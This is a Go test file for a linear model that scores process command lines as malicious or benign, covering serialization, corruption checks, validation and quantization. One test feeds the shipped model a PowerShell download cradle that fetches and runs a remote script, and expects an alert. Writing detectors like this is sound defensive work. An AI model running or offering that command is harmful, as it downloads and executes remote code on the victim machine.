package linear

import (
	"bytes"
	"errors"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"scorecmdline/src/features"
	"scorecmdline/src/internal/race"
)

// testModel is a small model with pseudo-random sparse weights.
func testModel(bits uint) *Model {
	r := rand.New(rand.NewPCG(1, 2))
	m := &Model{Name: "test", Description: "unit test", Bits: bits, Threshold: 0.6, Risk: 40,
		Command: "go test", Corpus: []CorpusFile{{"a.jsonl", strings.Repeat("0", 64), 3}}, Report: "report\n"}
	w := make([]float64, 1<<bits)
	for i := range w {
		if r.IntN(4) == 0 {
			w[i] = r.NormFloat64()
		}
	}
	st := Stage{Groups: features.Default, Bias: -0.5, W: make([]int16, 1<<bits)}
	st.Scale = Quantize(w, st.W)
	for i := range MaliciousQuantiles {
		m.Malicious = append(m.Malicious, float64(i)/10-3)
	}
	m.Stages = []Stage{st}
	return m
}

func TestRoundTrip(t *testing.T) {
	m := testModel(12)
	data, err := m.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Parse("m.bin", data)
	if err != nil {
		t.Fatal(err)
	}
	again, _ := got.MarshalBinary()
	if !bytes.Equal(data, again) {
		t.Fatal("marshal(parse(marshal(m))) differs from marshal(m)")
	}
	if got.Name != m.Name || got.Threshold != m.Threshold || got.Risk != m.Risk || got.Report != m.Report ||
		!slices.Equal(got.Malicious, m.Malicious) {
		t.Errorf("header fields differ: %+v", got)
	}
	g, w := got.Stages[0], m.Stages[0]
	if g.Groups != w.Groups || g.Bias != w.Bias || g.Scale != w.Scale || !slices.Equal(g.W, w.W) {
		t.Error("stage differs")
	}
	// Load through an fs.FS.
	if _, err := Load(fstest.MapFS{"m.bin": {Data: data}}, "m.bin"); err != nil {
		t.Fatal(err)
	}
}

func TestCorruption(t *testing.T) {
	data, err := testModel(10).MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	flip := func(i int) []byte { d := bytes.Clone(data); d[i] ^= 1; return d }
	tests := []struct {
		name string
		data []byte
		want error
	}{
		{"empty", nil, ErrMagic},
		{"text", []byte("name = 'x'\n"), ErrMagic},
		{"magic only", []byte(magic), ErrTruncated},
		{"truncated", data[:len(data)-100], ErrChecksum},
		{"truncated in header", data[:40], ErrTruncated},
		{"no trailer", data[:len(data)-4], ErrChecksum},
		{"version", flip(8), ErrVersion},
		{"version 1", append([]byte(magic), 1, 0, 0, 0, 2, 0, 0, 0, '{', '}', 0, 0, 0, 0), ErrVersion},
		{"header byte edited", flip(30), ErrChecksum},
		{"weight edited", flip(len(data) - 40), ErrChecksum},
		{"trailer edited", flip(len(data) - 1), ErrChecksum},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("lookups/x.model.bin", tt.data)
			var fe *FormatError
			if !errors.As(err, &fe) || !errors.Is(err, tt.want) {
				t.Fatalf("err = %v, want a *FormatError wrapping %v", err, tt.want)
			}
			if !strings.Contains(err.Error(), "lookups/x.model.bin") {
				t.Errorf("error %q does not name the file", err)
			}
		})
	}
}

func TestValidate(t *testing.T) {
	for name, edit := range map[string]func(*Model){
		"threshold": func(m *Model) { m.Threshold = 2 },
		"risk":      func(m *Model) { m.Risk = 101 },
		"bits":      func(m *Model) { m.Bits = 30 },
		"weights":   func(m *Model) { m.Stages[0].W = m.Stages[0].W[:10] },
		"scale":     func(m *Model) { m.Stages[0].Scale = math.NaN() },
		"bias":      func(m *Model) { m.Stages[0].Bias = math.Inf(1) },
		"groups":    func(m *Model) { m.Stages[0].Groups = 0 },
		"stages":    func(m *Model) { m.Stages = nil },
		"two":       func(m *Model) { m.Stages = append(m.Stages, m.Stages[0]) },
		"quantiles": func(m *Model) { m.Malicious[5], m.Malicious[6] = 1, 0 },
	} {
		m := testModel(10)
		edit(m)
		if _, err := m.MarshalBinary(); err == nil {
			t.Errorf("%s: invalid model marshalled", name)
		}
	}
}

func TestScoreMatchesVector(t *testing.T) {
	m := testModel(12)
	s := m.NewScorer()
	x := features.New(12)
	st := &m.Stages[0]
	for _, line := range benchLines()[:50] {
		in := &features.Input{Cmdline: []byte(line)}
		p := s.Score(in)
		x.Reset(in)
		z := st.Logit(x.AppendVector(nil, st.Groups))
		if math.Abs(s.Logit()-z) > 1e-6 || math.Abs(p-Sigmoid(z)) > 1e-6 { // entries sum float32 values
			t.Fatalf("%q: scorer logit %v, vector logit %v", line, s.Logit(), z)
		}
		// Explain's contributions add up to the logit when all are listed.
		sum := 0.0
		for _, c := range s.Explain(nil, 1<<20) {
			sum += c.Value
		}
		if math.Abs(sum-z) > 1e-6 {
			t.Fatalf("%q: contributions sum to %v, logit %v", line, sum, z)
		}
	}
}

func TestQuantize(t *testing.T) {
	tests := []struct {
		w     []float64
		want  []int16
		scale float64
	}{
		{[]float64{0, 0}, []int16{0, 0}, 1},
		{[]float64{2, -1, 0.5, 0}, []int16{32767, -16384, 8192, 0}, 2.0 / 32767},
		{[]float64{-3, 1e-9}, []int16{-32767, 0}, 3.0 / 32767},
	}
	for _, tt := range tests {
		q := make([]int16, len(tt.w))
		if scale := Quantize(tt.w, q); scale != tt.scale || !slices.Equal(q, tt.want) {
			t.Errorf("Quantize(%v) = %v, %v; want %v, %v", tt.w, q, scale, tt.want, tt.scale)
		}
	}
}

func TestScoreAllocs(t *testing.T) {
	if race.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	m := testModel(12)
	s := m.NewScorer()
	in := &features.Input{Cmdline: []byte(benchLines()[0])}
	s.Score(in)
	if n := testing.AllocsPerRun(100, func() { s.Score(in) }); n != 0 {
		t.Errorf("Score allocates %v times per row", n)
	}
}

// shipped is the model committed under lookups/, when present.
func shipped(tb testing.TB) []byte {
	data, err := os.ReadFile(filepath.Join("..", "..", "lookups", "cmdline.model.bin"))
	if err != nil {
		tb.Skip("lookups/cmdline.model.bin not built yet")
	}
	return data
}

func TestShippedModelLoads(t *testing.T) {
	m, err := Parse("cmdline.model.bin", shipped(t))
	if err != nil {
		t.Fatal(err)
	}
	s := m.NewScorer()
	attack := s.Score(&features.Input{Cmdline: []byte(`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')"`)})
	benign := s.Score(&features.Input{Cmdline: []byte(`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`)})
	if !m.Alert(attack) || m.Alert(benign) {
		t.Errorf("download cradle %.3f, chrome renderer %.3f, threshold %.3f", attack, benign, m.Threshold)
	}
}
